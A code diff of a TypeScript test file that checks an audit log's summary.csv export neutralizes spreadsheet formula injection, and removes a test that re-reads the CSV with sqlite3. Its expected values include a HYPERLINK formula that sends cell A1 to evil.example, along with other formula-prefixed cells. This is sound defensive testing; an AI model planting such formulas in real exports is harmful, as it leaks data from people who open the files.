@@ -3,9 +3,6 @@
  * module (an oracle that is not our writer).
  */
 import { execFileSync } from 'node:child_process';
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
-import { tmpdir } from 'node:os';
-import { join } from 'node:path';
 import { describe, expect, test } from 'vitest';
 import type { AuditEvent } from '../../src/audit/event.js';
 import { SUMMARY_CSV_COLUMNS, SUMMARY_CSV_HEADER, StatementSummarizer, summaryCsvLine, type StatementRow } from '../../src/audit/summary.js';
@@ -186,21 +183,5 @@ describe('summary.csv', () => {
     expect(records[0]![col('bytes')]).toBe('33');
     // The neutralized cells, exactly.
     expect(records.slice(3, 9).map((r) => r[col('statement')])).toEqual(["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "'+1+1", "'-2+3", "'@SUM(A1:A9)", "'\tSELECT 1", "'\rSELECT 1"]);
-  });
-
-  test('sqlite3 -csv imports it too (another reader), with the same number of rows and columns', () => {
-    const log = new EventLog();
-    const sid = log.session(alice);
-    for (const text of hostile) log.ran(alice, sid, text);
-    const { rows } = summarize(log.events);
-    const csv = SUMMARY_CSV_HEADER + rows.map(summaryCsvLine).join('');
-    const dir = mkdtempSync(join(tmpdir(), 'hoop-summary-'));
-    try {
-      writeFileSync(join(dir, 'summary.csv'), csv);
-      const out = execFileSync('sqlite3', ['-csv', ':memory:', `.import '${join(dir, 'summary.csv')}' s`, 'SELECT count(*), count(DISTINCT query_id), sum(statement = \'\'\'=HYPERLINK("http://evil.example/?x="&A1,"click")\') FROM s;'], { encoding: 'utf8' });
-      expect(out.trim()).toBe(`${rows.length},${rows.length},1`);
-    } finally {
-      rmSync(dir, { recursive: true, force: true });
-    }
   });
 });
